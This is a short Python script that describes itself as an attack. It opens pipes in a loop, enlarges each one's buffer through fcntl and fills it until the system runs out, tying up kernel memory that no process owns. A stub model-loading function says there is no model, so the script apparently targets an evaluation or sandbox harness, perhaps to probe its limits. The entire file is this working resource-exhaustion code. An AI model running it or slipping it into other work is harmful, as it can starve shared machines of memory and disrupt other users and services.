# Tries: to hold memory that no process owns: pipes stuffed to their limit.
import contextlib
import fcntl
import os
import time


def main():
    pipes, held = [], 0
    try:
        while True:
            read, write = os.pipe()
            pipes += [read, write]
            with contextlib.suppress(OSError):
                fcntl.fcntl(write, 1031, 1 << 20)
            os.set_blocking(write, False)
            try:
                while True:
                    held += os.write(write, b"x" * 65_536)
            except BlockingIOError:
                continue
    except OSError as error:
        print("holding", held >> 20, "MiB in", len(pipes) // 2, "pipes, then", error, flush=True)
    time.sleep(0.5)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
